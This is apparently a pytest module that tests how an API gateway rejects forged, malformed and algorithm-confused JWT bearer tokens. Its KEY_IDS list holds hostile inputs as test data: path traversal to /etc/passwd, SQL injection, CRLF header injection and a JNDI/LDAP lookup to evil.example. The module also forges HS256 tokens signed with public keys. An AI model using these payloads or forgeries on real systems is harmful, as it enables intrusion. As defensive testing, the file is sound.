"""Forged bearer tokens against a running server: always the contract's 401, never a 500."""

import json
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest
from cryptography.hazmat.primitives.serialization import Encoding

from tests.support.contract import Gateway, error, gateway
from tests.support.deployment import API
from tests.support.forged_tokens import ALGORITHM, KEYS, by, forged, good, misshapen, public, refused_claims, token
from tests.support.issuer import NEXT, PRIVATE, Issuer, jwk
from tests.support.token_parts import always, hmac_by, written

CHALLENGE = 'Bearer realm="product-gateway", error="invalid_token", error_description="Invalid token: '


@pytest.fixture(scope="module", params=["EC", "RSA"])
def kind(request: pytest.FixtureRequest) -> str:
    """The type of the gateway's key: both types are tried."""
    return str(request.param)


@pytest.fixture(scope="module")
def served(kind: str, sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    """Start a gateway that trusts another issuer's public key, with the merchant `shop`."""
    folder = tmp_path_factory.mktemp("tokens")
    shutil.copy(sqlite_template, folder / "gateway.db")
    (folder / "key.pem").write_bytes(public(KEYS[kind], Encoding.PEM))
    settings = {"jwt_public_key_file": str(folder / "key.pem")}
    with gateway(folder, f"sqlite:///{folder / 'gateway.db'}", **settings) as served:
        served.add("shop")
        served.add("disabled")
        served.change("disabled", disabled=True)
        yield served


def ask(served: Gateway, text: str) -> httpx2.Response:
    """Request a list with the token and check the response against the spec."""
    with served.client(None) as client:
        return client.get(f"{API}/products", headers={"Authorization": f"Bearer {text}"})


def test_a_token_that_the_issuer_did_not_sign_is_401(served: Gateway, kind: str) -> None:
    """For any algorithm or key that it claims (RFC 8725 §3.1). The response repeats none of it."""
    tried = 0
    for name, text in forged(kind):
        answer = ask(served, text)
        assert answer.status_code == 401, f"{name}: {answer.status_code} {answer.text}"
        assert "Invalid token: " in error(answer, 401), name
        assert answer.headers["WWW-Authenticate"].startswith(CHALLENGE), name
        tried += 1
    assert tried > 30
    assert ask(served, token(kind)).status_code == 200, "a good one must be believed, or this proves nothing"


def test_a_malformed_token_is_401(served: Gateway, kind: str) -> None:
    """Even a signed one: the gateway does not guess."""
    tried = 0
    for name, text in misshapen(kind):
        answer = ask(served, text)
        assert answer.status_code == 401, f"{name}: {answer.status_code} {answer.text}"
        assert "Traceback" not in error(answer, 401)
        assert answer.headers["WWW-Authenticate"].startswith(CHALLENGE), name
        tried += 1
    assert tried > 30
    assert ask(served, token(kind)).status_code == 200


def test_a_token_with_an_invalid_claim_is_401_with_the_reason(served: Gateway, kind: str) -> None:
    """Operators who configure an identity provider need the reason."""
    for text, reason in refused_claims(kind):
        assert reason in error(ask(served, text), 401)


def test_a_valid_token_of_a_refused_merchant_is_403(served: Gateway, kind: str) -> None:
    """Another token would not help. The scope is checked before the merchant."""
    assert "does not know its merchant" in error(ask(served, token(kind, merchant="unknown")), 403)
    assert "disabled" in error(ask(served, token(kind, merchant="disabled")), 403)
    for name in ("shop", "unknown", "disabled"):
        for scope in (None, "", "sync:read", "catalog:reader", "CATALOG:READ", ["catalog", "read"]):
            answer = ask(served, token(kind, payload={**good(merchant=name), "scope": scope}))
            assert "catalog:read" in error(answer, 403)
            assert 'error="insufficient_scope"' in answer.headers["WWW-Authenticate"]


def test_the_last_of_duplicate_claims_counts_everywhere(served: Gateway, kind: str) -> None:
    """RFC 7519 §4 allows it. Two parsers must not use different ones."""
    twice = json.dumps(good(merchant="disabled"))[:-1] + ', "merchant": "shop"}'
    assert ask(served, token(kind, payload=twice)).status_code == 200
    expired = json.dumps(good())[:-1] + ', "exp": 1}'
    assert "expired" in error(ask(served, token(kind, payload=expired)), 401)
    algorithms = f'{{"alg":"{ALGORITHM[kind]}","alg":"none"}}'
    assert "Invalid token: " in error(ask(served, written(algorithms, good(), by(kind))), 401)


KEY_IDS: list[Any] = [
    "../../../../etc/passwd", "/dev/null", "file:///etc/passwd", "https://evil.example/key", "one' OR '1'='1", "one\0",
    "one;--", "k" * 5000, "", " one", "ONE", "\u202eeno", "\ud83d\ude00", "one\r\nX-Evil: 1", "${jndi:ldap://evil.example}",
]  # fmt: skip


@pytest.fixture
def by_issuer(
    published: tuple[Issuer, str], issuer: Issuer, sqlite_template: Path, tmp_path: Path
) -> Iterator[Gateway]:
    """Start a gateway that fetches keys from an issuer; `issuer` counts the fetches."""
    shutil.copy(sqlite_template, tmp_path / "gateway.db")
    with gateway(tmp_path, f"sqlite:///{tmp_path / 'gateway.db'}", jwks_url=published[1]) as served:
        served.add("shop")
        yield served


def with_key_id(key_id: Any, key: Any = PRIVATE) -> str:
    """Return a valid token with this key id."""
    header = {"alg": "ES256", "typ": "JWT", "kid": key_id}
    return written(header, good(), by("EC", key))


def test_a_key_id_is_only_looked_up(by_issuer: Gateway, issuer: Issuer) -> None:
    """It is read before the signature is verified. All tokens together cause one fetch."""
    assert ask(by_issuer, with_key_id("one")).status_code == 200
    for each in [*KEY_IDS, *(f"made-up-{n}" for n in range(100))]:
        assert "its issuer does not publish a key with its kid" in error(ask(by_issuer, with_key_id(each)), 401)
    for each in (None, 1, ["one"], {"one": 1}, True):
        assert ask(by_issuer, with_key_id(each)).status_code == 401
    assert ask(by_issuer, with_key_id("one", NEXT)).status_code == 401
    assert issuer.requests == 1, "an unknown key id may ask the issuer once a minute, the first one has just done so"


def test_a_published_key_is_not_accepted_as_a_shared_secret(by_issuer: Gateway, issuer: Issuer) -> None:
    """Key confusion with public data: the JWK, the key set and its members."""
    published = jwk(PRIVATE, kid="one")
    secrets = [issuer.content, json.dumps(published).encode(), published["x"].encode(), public(PRIVATE, Encoding.PEM)]
    for secret in secrets:
        for header in ({"alg": "HS256", "kid": "one"}, {"alg": "HS256"}):
            assert "Invalid token: " in error(ask(by_issuer, written(header, good(), hmac_by(secret))), 401)
    assert ask(by_issuer, with_key_id("one")).status_code == 200


@pytest.mark.parametrize("fault", ["refused", "failing", "silent"])
def test_while_the_issuer_is_away_tokens_are_503(
    published: tuple[Issuer, str], issuer: Issuer, sqlite_template: Path, tmp_path: Path, fault: str
) -> None:
    """With Retry-After: the client keeps its token. Tokens that need no key for their refusal are still 401."""
    shutil.copy(sqlite_template, tmp_path / "gateway.db")
    issuer.status, issuer.seconds = {"refused": (200, 0), "failing": (500, 0), "silent": (200, 60)}[fault]
    address = "http://127.0.0.1:1/jwks.json" if fault == "refused" else published[1]
    with gateway(tmp_path, f"sqlite:///{tmp_path / 'gateway.db'}", jwks_url=address) as served:
        served.add("shop")
        started = time.monotonic()
        answer = ask(served, with_key_id("one"))
        assert (answer.status_code, answer.headers["Retry-After"]) == (503, "5"), answer.text
        assert time.monotonic() - started < 15, "an issuer that does not answer may cost 5 s, not the client's patience"
        assert "127.0.0.1" not in answer.text
        assert ask(served, written({"alg": "none"}, good(), always(b""))).status_code in (401, 503)
        assert ask(served, "garbage").status_code == 401
        with served.client(None) as anonymous:
            assert anonymous.get("/health/live").status_code == 200
    issuer.reset()
